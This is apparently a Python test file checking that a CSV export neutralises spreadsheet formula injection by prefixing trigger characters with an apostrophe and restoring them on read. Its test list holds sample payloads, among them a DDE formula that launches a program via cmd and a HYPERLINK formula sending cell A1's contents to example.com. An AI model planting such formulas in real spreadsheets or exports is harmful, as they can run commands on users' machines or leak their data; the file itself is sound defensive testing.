"""Inert CSV cells: formula triggers get a leading apostrophe, our reader restores every text.

Native -> CSV -> native keeps arbitrary titles (hypothesis), also titles that begin with an
apostrophe; dates before year 0 (which begin with '-') are written as they are; --raw-cells
writes cells untouched.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.helpers import minimal, write
from viewer.model.formats.csv_cells import TRIGGERS, inert, restore
from viewer.model.formats.detect import load
from viewer.model.formats.events_csv import COLUMNS, events_csv_text
from viewer.model.formats.native import write_native

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _dataset_with(tmp: Path, titles: list[str], name: str = "t.json"):  # type: ignore[no-untyped-def]
    data = minimal()
    base = data["events"][0]
    data["events"] = [
        {**base, "id": f"e{i}", "title": t, "quotes": [], "citations": []}
        for i, t in enumerate(titles)
    ]
    return load(write(tmp, data, name)).dataset


@pytest.mark.parametrize("title", FORMULAS)
def test_formula_titles_are_written_as_text_and_read_back(tmp_path: Path, title: str) -> None:
    ds = _dataset_with(tmp_path, [title])
    text, _ = events_csv_text(ds)
    cell = _cells(text)[0]["title"]
    assert cell == "'" + title  # a spreadsheet shows it as text
    out = tmp_path / "t.csv"
    out.write_text(text, encoding="utf-8")
    assert load(out).dataset.events[0].title == title


def test_every_text_cell_is_inert_but_the_dates(tmp_path: Path) -> None:
    data = minimal()
    ev = data["events"][0]
    ev.update(title="=t", summary="+s", kind="-k", tags=["@tag"], quotes=[], citations=[])
    ev["when"] = {"start": "-0044-03-15", "end": "-0044-03-16", "precision": "day", "text": "=d"}
    data["actors"][0]["name"] = "=Actor"
    ev["actors"] = ["mayor"]
    ds = load(write(tmp_path, data)).dataset
    text, _ = events_csv_text(ds)
    row = _cells(text)[0]
    assert row["start"] == "-0044-03-15"  # dates are not text cells
    assert row["end"] == "-0044-03-16"
    for column, value in (("title", "=t"), ("summary", "+s"), ("kind", "-k"), ("tags", "@tag")):
        assert row[column] == "'" + value
    assert row["date_text"] == "'=d"
    assert row["actors"] == "'=Actor"
    out = tmp_path / "t.csv"
    out.write_text(text, encoding="utf-8")
    back = load(out).dataset
    got = back.events[0]
    assert (got.title, got.summary, got.kind, got.tags) == ("=t", "+s", "-k", ["@tag"])
    assert got.when.start == "-0044-03-15"
    assert got.when.text == "=d"
    assert [a.name for a in back.actors] == ["=Actor"]


def test_raw_cells_are_written_as_they_are(tmp_path: Path) -> None:
    ds = _dataset_with(tmp_path, FORMULAS[:2])
    text, _ = events_csv_text(ds, raw_cells=True)
    assert [r["title"] for r in _cells(text)] == FORMULAS[:2]
    assert COLUMNS[0] == "id"


@pytest.mark.parametrize(
    ("title", "written"),
    [
        ("'tis the season", "'tis the season"),  # an apostrophe before a letter is left alone
        ("'", "'"),
        ("''", "'''"),
        ("'=1", "''=1"),
        ("'-", "''-"),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_apostrophes_are_escaped_only_where_the_reader_would_remove_one(
    title: str, written: str
) -> None:
    assert inert(title) == written
    assert restore(written) == title


@given(st.text(max_size=12))
def test_inert_and_restore_are_inverse(text: str) -> None:
    written = inert(text)
    assert restore(written) == text
    assert not written.startswith(TRIGGERS)


# Titles: any text but NUL (every reader refuses a file holding NUL as binary data) and lone
# surrogates (not UTF-8); starting with the characters that matter more often than chance.
_TITLE = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1),
    st.builds(
        lambda a, b: a + b,
        st.text(alphabet="'=+-@\t\r\n\" ,;", min_size=1, max_size=4),
        st.text(max_size=6).filter(
            lambda s: "\x00" not in s and not any(0xD800 <= ord(c) <= 0xDFFF for c in s)
        ),
    ),
)


@settings(
    max_examples=150,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.lists(_TITLE, min_size=1, max_size=4))
def test_titles_round_trip_native_csv_native(tmp_path: Path, titles: list[str]) -> None:
    ds = _dataset_with(tmp_path, titles, "in.json")
    text, _ = events_csv_text(ds)
    table = tmp_path / "t.csv"
    table.write_text(text, encoding="utf-8")
    from_csv = load(table).dataset
    native = tmp_path / "back.json"
    write_native(from_csv, native)
    back = load(native).dataset
    assert [e.title for e in back.events] == titles
